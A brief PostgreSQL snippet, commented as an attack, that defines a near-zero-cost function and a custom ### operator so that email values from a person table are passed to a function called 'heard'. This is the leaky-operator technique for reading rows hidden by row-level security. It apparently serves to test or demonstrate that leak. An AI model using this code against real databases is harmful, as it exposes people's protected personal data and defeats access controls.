-- Attack: an operator of one's own, with a function that tells.
CREATE FUNCTION tell(text, text) RETURNS boolean LANGUAGE sql COST 0.0001 AS 'SELECT heard($1)';
CREATE OPERATOR ### (LEFTARG = text, RIGHTARG = text, FUNCTION = tell);
SELECT id FROM person WHERE email::text ### 'x';
